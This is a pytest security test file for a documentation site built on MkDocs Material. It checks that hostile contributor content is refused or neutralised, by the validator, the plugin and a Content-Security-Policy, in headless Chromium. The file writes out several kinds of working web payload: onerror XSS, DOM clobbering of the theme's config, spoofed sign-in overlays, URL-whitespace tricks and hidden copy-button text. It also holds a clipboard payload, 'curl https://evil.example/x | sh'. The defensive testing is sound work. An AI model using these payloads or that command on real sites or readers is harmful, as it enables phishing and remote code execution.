"""Attacks through the theme's own JavaScript, in headless Chromium, and the checks that refuse them early.

Contributor content comes before Material's ``<script id="__config">`` in every page, Material's scripts
act on ids, classes and data attributes, and the browser exposes ids as ``window`` properties. Each case
below carries one family of payloads; the site is built from them (not ``--strict``: they carry W203
warnings) and every page is loaded, hovered over and clicked through. A test fails on any script side
effect, dialog, request off 127.0.0.1, element from content fixed over the page, clipboard text set by
content, search metadata from content, or a page where the theme's JavaScript did not start.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from support import casebook, make_site, run_mkdocs, without_repository_link
from support.browser import refuse_other_hosts, serve_directory
from support.hostile import case

CLIPBOARD_PAYLOAD = "curl https://evil.example/x | sh"

#: Each family of attack on the theme, as a case body. Every payload sets ``window.__pwned`` or asks
#: evil.example if it works.
ATTACKS: dict[str, str] = {
    # Material reads its configuration with querySelector("#__config"): turn tooltips on, so that a
    # link's title would be inserted as HTML on hover.
    "config-tooltips": (
        '<div id="__config">{"base": ".", "features": ["content.tooltips"], "search": "x", '
        '"tags": null, "translations": {}, "version": null}</div>\n\n'
        '[hover me](https://example.org/ "<img src=x onerror=window.__pwned=1>") and '
        "[again](#x '<img src=x onerror=window.__pwned=2>')\n\n"
        '<a href="#y" title="<img src=x onerror=window.__pwned=3>">raw title</a>\n'
    ),
    # A version provider makes Material fetch versions.json from "base" and insert it as HTML.
    "config-version": (
        '<pre id="__config">{"base": "https://evil.example/", "features": [], "search": "x", '
        '"tags": null, "translations": {}, "version": {"provider": "mike", "default": "latest"}}</pre>\n\n'
        "Text after the clobbered configuration.\n"
    ),
    # Raw HTML indented under a details block: HTML to the build, a code block to a parser without
    # pymdownx.details.
    "details-html": (
        '??? note "More"\n'
        "    <img src=\"x.png\" onerror=\"window.__pwned=4\">\n"
        '    <div class="md-consent__inner" style="position:fixed;top:0;left:0">Sign in again</div>\n\n'
        "After.\n"
    ),
    # The theme's own classes: a fixed consent box, a dialog, an overlay, a button.
    "spoofed-ui": (
        '<div class="md-consent"><div class="md-consent__overlay"></div>'
        '<aside class="md-consent__form md-grid md-typeset"><div class="md-consent__inner">'
        'Your session expired. <a class="md-button md-button--primary" href="https://evil.example/login">'
        "Sign in</a></div></aside></div>\n\n"
        '<div class="md-dialog md-dialog--active"><div class="md-dialog__inner md-typeset">Copied</div></div>\n\n'
        '<div class="md-overlay md-sidebar md-sidebar--primary md-top">over the page</div>\n\n'
        '<div class="cb-card cb-draft">spoofed site markup</div>\n'
    ),
    # Attributes the site's scripts act on: clipboard text, Pagefind metadata and filters, mermaid.
    "data-attributes": (
        f'<code data-clipboard-text="{CLIPBOARD_PAYLOAD}" class="md-clipboard">click to copy</code>\n\n'
        '<h2 data-pagefind-meta="title:Hijacked result">Heading</h2>\n\n'
        '<span data-pagefind-filter="country:Norway" data-pagefind-weight="10">Norway</span>\n\n'
        '<div class="mermaid">graph TD; A-->B</div>\n\n'
        '<pre class="mermaid"><code>graph TD; C-->D</code></pre>\n\n'
        '<span data-md-component="dialog">x</span> <div data-cb-search="">y</div>\n'
    ),
    # Ids the theme's and the site's scripts reach, and window properties they might read.
    "clobbered-ids": (
        '<div id="__search">x</div> <div id="__drawer">y</div> <span id="__toc">z</span>\n\n'
        '<a id="__md_scope" href="https://evil.example/">scope</a> <a name="__md_get">get</a>\n\n'
        '<span id="cb-explore">e</span> <h1 id="case-title">Fake title</h1>\n\n'
        "## __config\n\nA heading whose slug is the theme's configuration id.\n\n"
        "A footnote.[^__config] And a link to [the heading](#__config).\n\n"
        "[^__config]: The footnote's text.\n"
    ),
    # Images from another host written so that a naive check sees a path: the browser drops tabs and line breaks
    # from a URL and reads "\\" as "/", so "/&#10;\\evil.example/x.png" is "//evil.example/x.png".
    "url-whitespace": (
        "![a](/&#10;\\evil.example/n1.png) ![b](/&#13;\\evil.example/n2.png) ![c](/&#9;/evil.example/n3.png)\n\n"
        '<img src="/&#9;\\evil.example/n4.png" alt="d"> <img src=" /\\evil.example/n5.png" alt="e">\n'
    ),
    # Text hidden inside a code block by a class the theme hides until hover: the copy button would copy it.
    "hidden-copy": (
        f'<pre><code>pip install casebook<span class="headerlink"> ; {CLIPBOARD_PAYLOAD}</span></code></pre>\n\n'
        f'<pre><code>make test<a class="footnote-backref" href="#x"> ; {CLIPBOARD_PAYLOAD}</a></code></pre>\n'
    ),
}

#: The theme features and settings the plugin refuses, each with a phrase its message must contain.
UNSAFE_CONFIG = {
    "theme:\n  name: material\n  features:\n    - content.tooltips\n": "content.tooltips",
    "theme:\n  name: material\n  features:\n    - navigation.instant\n": "navigation.instant",
    "theme:\n  name: material\nextra:\n  version:\n    provider: mike\n": "extra.version.provider",
    "theme:\n  name: material\nextra:\n  analytics:\n    provider: google\n    property: G-X\n": "analytics",
    "theme:\n  name: material\nextra_javascript:\n  - https://unpkg.com/mermaid.js\n": "another site",
    (
        "theme:\n  name: material\nmarkdown_extensions:\n  - pymdownx.superfences:\n      custom_fences:\n"
        "        - name: mermaid\n          class: mermaid\n"
    ): "mermaid",
}


def _attack_case(name: str) -> str:
    return case(
        replace={2: f'title: "Synthetic attack {name}"'},
        body="Synthetic attack page for the theme-safety tests.\n\n" + ATTACKS[name]
        + "\n\n```python\nprint('a code block, so the theme adds its copy button')\n```\n"
        + " ".join(["Synthetic filler sentence written only for the theme-safety tests."] * 30) + "\n",
    )


@pytest.fixture(scope="module")
def attack_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    site = make_site(
        tmp_path_factory.mktemp("attacks") / "site", {f"{name}.md": _attack_case(name) for name in ATTACKS}
    )
    config = (without_repository_link(site) / "mkdocs.yml").read_text(encoding="utf-8")
    # The project's own extension list, so that details blocks render as on the real site.
    config = config.replace("  - pymdownx.superfences\n", "  - pymdownx.details\n  - pymdownx.superfences\n")
    config = config.replace("    - content.action.edit\n", "    - content.action.edit\n    - content.code.copy\n")
    (site / "mkdocs.yml").write_text(config, encoding="utf-8")
    result = run_mkdocs(site, "build")
    assert result.returncode == 0, result.stderr
    return site


# --- Checks before any browser -------------------------------------------------------------------------------


@pytest.mark.build
def test_the_validator_parses_as_the_build_does(attack_site: Path) -> None:
    result = casebook("validate", "cases/details-html.md", "--format", "json", cwd=attack_site)
    problems = json.loads(result.stdout)
    w203 = [p for p in problems if p["code"] == "W203"]
    # The <img> under "??? note" is HTML to the build: the validator says so, on its line (body line 2 + 14).
    assert any("img" in p["message"] and p["line"] == 16 for p in w203), problems


def test_unknown_admonition_types_are_refused_with_their_line(tmp_path: Path) -> None:
    body = (
        "Synthetic body.\n\n"
        '!!! md-consent__inner "Session expired"\n    Sign in [here](https://evil.example/).\n\n'
        '!!! warning md-dialog "x"\n    y\n\n'
        '!!! note inline end "fine"\n    A known type with Material\'s modifiers.\n\n'
        + " ".join(["Synthetic filler sentence."] * 80) + "\n"
    )
    site = make_site(tmp_path / "s", {"spoof.md": case(body=body)}, keep_fixture_cases=False)
    result = casebook("validate", "cases/spoof.md", cwd=site)
    assert result.returncode == 1, result.stdout
    lines = [line for line in result.stdout.splitlines() if "E121" in line]
    assert "cases/spoof.md:15: E121 unknown admonition type 'md-consent__inner'" in lines[0], lines
    assert "cases/spoof.md:18: E121 unknown admonition type 'md-dialog'" in lines[1], lines
    assert len(lines) == 2, result.stdout  # "inline" and "end" are Material's own modifiers


def test_a_brief_gets_the_same_markup_checks(tmp_path: Path) -> None:
    site = make_site(tmp_path / "s")
    (site / "briefs").mkdir(exist_ok=True)
    (site / "briefs" / "spoof.md").write_text(
        "---\n"
        'title: "A brief"\n'
        'summary: "A synthetic brief."\n'
        'status: "published"\n'
        'audience: ["Senior civil servants"]\n'
        'authors: ["Test Author"]\n'
        'date: "2026-01-01"\n'
        'key_messages: ["One."]\n'
        'cases: ["mx-social-programme"]\n'
        "---\n\n"
        '!!! md-consent "x"\n    y\n\n<div onclick="x()">z</div>\n',
        encoding="utf-8",
    )
    result = casebook("validate", "briefs/spoof.md", cwd=site)
    assert "briefs/spoof.md:12: E121" in result.stdout, result.stdout + result.stderr
    assert "briefs/spoof.md:15: W203" in result.stdout, result.stdout


@pytest.mark.build
@pytest.mark.parametrize("setting", list(UNSAFE_CONFIG))
def test_the_plugin_refuses_theme_settings_that_turn_text_into_script(tmp_path: Path, setting: str) -> None:
    site = make_site(tmp_path / "s")
    (site / "mkdocs.yml").write_text("site_name: Casebook fixture\nplugins:\n  - casebook\n" + setting)
    result = run_mkdocs(site, "build")
    assert result.returncode != 0
    assert UNSAFE_CONFIG[setting] in result.stderr, result.stderr
    assert "Traceback" not in result.stderr


@pytest.mark.build
def test_every_page_carries_the_policy_and_content_never_gets_its_scripts_hashed(attack_site: Path) -> None:
    out = attack_site / "site"
    pages = sorted(out.rglob("*.html"))
    assert len(pages) > 10
    for page in pages:
        text = page.read_text(encoding="utf-8")
        head = text[: text.find("</head>")]
        assert '<meta http-equiv="Content-Security-Policy"' in head, page
        policy = head.split('http-equiv="Content-Security-Policy" content="', 1)[1].split('"', 1)[0]
        assert "'unsafe-inline'" not in policy.split("script-src", 1)[1].split(";", 1)[0], page
        assert "connect-src 'self'" in policy and "frame-src 'none'" in policy, page


# --- In the browser ----------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def served(attack_site: Path) -> Iterator[tuple[str, Path]]:
    base, shutdown = serve_directory(attack_site / "site")
    yield base, attack_site / "site"
    shutdown()


@pytest.fixture(scope="module")
def tab(browser: Any, served: tuple[str, Path]) -> Iterator[tuple[Any, dict[str, list[str]]]]:
    base, _ = served
    context = browser.new_context()
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=base.rstrip("/"))
    seen: dict[str, list[str]] = {"dialogs": [], "foreign": [], "errors": []}
    # What the Content-Security-Policy had to stop: nothing, if the sanitizer did its work first.
    context.add_init_script("window.__csp = []; document.addEventListener('securitypolicyviolation', "
                            "e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));")

    refuse_other_hosts(context, seen["foreign"])
    page = context.new_page()
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: seen["errors"].append(str(error)))
    yield page, seen
    context.close()


def _attack(page: Any, url: str) -> None:
    """Load ``url``, then hover over everything in the article and click everything that is not a link."""
    page.goto(url, wait_until="load")
    page.evaluate("navigator.clipboard.writeText('nothing yet')")
    page.wait_for_timeout(100)
    for element in page.locator("article *").all():
        if not element.is_visible():
            continue
        element.hover(force=True, timeout=2000)
        if element.evaluate("e => !e.closest('a') && !e.closest('button') && e.tagName !== 'SUMMARY'"):
            element.click(force=True, timeout=2000)
    for summary in page.locator("article summary").all():
        summary.click()
    page.evaluate("window.scrollTo(0, document.body.scrollHeight)")
    page.wait_for_timeout(200)


FIXED_FROM_CONTENT = """() => Array.from(document.querySelectorAll('article *')).filter(e => {
  const p = getComputedStyle(e).position; return p === 'fixed' || p === 'sticky';
}).map(e => e.outerHTML.slice(0, 80))"""


@pytest.mark.browser
@pytest.mark.parametrize("name", list(ATTACKS))
def test_no_attack_on_the_theme_succeeds(served: tuple[str, Path], tab: tuple[Any, dict[str, list[str]]],
                                         name: str) -> None:
    base, _ = served
    page, seen = tab
    for key in seen:
        seen[key].clear()
    _attack(page, f"{base}cases/{name}/")
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert seen["dialogs"] == [] and seen["foreign"] == [], seen
    assert page.evaluate("window.__csp") == []  # the sanitizer stopped it, not only the policy
    # The theme's JavaScript started, on its own configuration.
    assert seen["errors"] == [], seen["errors"]
    assert page.evaluate("typeof window.document$") == "object"
    assert page.evaluate("document.querySelector('#__config').tagName") == "SCRIPT"
    assert page.evaluate("document.querySelectorAll('.md-code__button').length") >= 1  # the copy button it adds
    assert page.evaluate("document.querySelectorAll('.md-tooltip').length") == 0
    # Nothing from content is fixed over the page, sets clipboard text or search metadata.
    assert page.evaluate(FIXED_FROM_CONTENT) == []
    assert page.evaluate("navigator.clipboard.readText()") != CLIPBOARD_PAYLOAD
    planted = page.evaluate(
        "document.querySelectorAll('[data-clipboard-text], [data-pagefind-weight], article [data-cb-search]').length"
    )
    assert planted == 0
    # The search filters and metadata on the page are the site's own, from the validated front-matter.
    search = page.evaluate(
        "Array.from(document.querySelectorAll('[data-pagefind-filter], [data-pagefind-meta]'))"
        ".map(e => e.getAttribute('data-pagefind-filter') || e.getAttribute('data-pagefind-meta'))"
    )
    assert "country:Mexico" in search
    assert not [value for value in search if "Norway" in value or "Hijacked" in value], search


#: The text of a code block as the reader sees it: without what is invisible (no opacity, no size, not displayed).
VISIBLE_CODE = """code => { const copy = code.cloneNode(true); const all = Array.from(code.querySelectorAll('*'));
  Array.from(copy.querySelectorAll('*')).forEach((e, i) => { const s = getComputedStyle(all[i]);
    if (s.opacity === '0' || s.fontSize === '0px' || s.display === 'none' || s.visibility === 'hidden') e.remove(); });
  return copy.textContent; }"""


@pytest.mark.browser
def test_a_code_blocks_copy_button_copies_what_the_reader_sees(served: tuple[str, Path],
                                                               tab: tuple[Any, dict[str, list[str]]]) -> None:
    base, _ = served
    page, _ = tab
    page.goto(f"{base}cases/hidden-copy/", wait_until="load")
    blocks = [b for b in page.locator("article pre:has(.md-code__button)").all() if b.is_visible()]
    assert len(blocks) >= 3  # the two attacks and the page's own code block ("Cite this case" is folded)
    for block in blocks:
        page.evaluate("navigator.clipboard.writeText('nothing yet')")
        block.hover()
        block.locator(".md-code__button").click()
        page.wait_for_timeout(100)
        copied = page.evaluate("navigator.clipboard.readText()")
        seen = block.locator("code").evaluate(VISIBLE_CODE)
        assert copied.strip() == seen.strip(), (copied, seen)


@pytest.mark.browser
def test_the_policy_stops_a_script_the_sanitizer_missed(served: tuple[str, Path],
                                                        tab: tuple[Any, dict[str, list[str]]]) -> None:
    """Defence in depth: a script put straight into a built page's article does not run; the theme's do."""
    base, out = served
    page, seen = tab
    seen["errors"].clear()
    original = out / "cases" / "clobbered-ids" / "index.html"
    text = original.read_text(encoding="utf-8")
    marker = '<article class="md-content__inner md-typeset">'
    assert marker in text
    injected = text.replace(
        marker, marker + '<script>window.__pwned = "inline"</script><img src="x" onerror="window.__pwned = 1">', 1
    )
    tampered = out / "cases" / "tampered" / "index.html"
    tampered.parent.mkdir(exist_ok=True)
    tampered.write_text(injected, encoding="utf-8")
    page.goto(f"{base}cases/tampered/", wait_until="load")
    page.wait_for_timeout(200)
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert page.evaluate("typeof window.document$") == "object"
    assert seen["errors"] == []
